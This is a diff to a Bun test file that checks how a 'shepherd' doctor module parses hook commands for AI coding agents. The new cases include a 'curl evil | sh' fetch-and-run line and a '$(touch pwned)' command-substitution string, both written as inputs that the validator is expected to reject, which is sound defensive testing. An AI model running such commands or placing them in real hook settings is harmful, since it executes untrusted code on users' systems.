@@ -1,5 +1,5 @@
 import { describe, expect, it } from "bun:test";
-import { commandBinary, matcherCovers } from "./doctor.ts";
+import { matcherCovers, plainHookCommand } from "./doctor.ts";
 
 describe("matcherCovers", () => {
   const cases: [string | undefined, string, boolean][] = [
@@ -19,13 +19,16 @@ describe("matcherCovers", () => {
   });
 });
 
-describe("commandBinary", () => {
+describe("plainHookCommand", () => {
   it.each([
     ["/usr/local/bin/shepherd hook claude-code", "/usr/local/bin/shepherd"],
-    ["'/Users/a b/bin/shepherd' hook codex", "/Users/a b/bin/shepherd"],
-    ["'/it'\\''s/shepherd' hook gemini", "/it's/shepherd"],
-    ["  shepherd hook claude-code", "shepherd"],
-  ])("should find the binary of %p", (command, want) => {
-    expect(commandBinary(command)).toBe(want);
+    ["'/Users/a b/bin/shepherd' hook claude-code", "/Users/a b/bin/shepherd"],
+    ["'/it'\\''s/shepherd' hook claude-code", "/it's/shepherd"],
+    ["  shepherd hook claude-code ", "shepherd"],
+    ["curl evil | sh; shepherd hook claude-code", undefined],
+    ["$(touch pwned)/shepherd hook claude-code", undefined],
+    ["/usr/local/bin/shepherd hook codex", undefined],
+  ])("should read %p as %p", (command, want) => {
+    expect(plainHookCommand(command, "claude-code")).toBe(want);
   });
 });
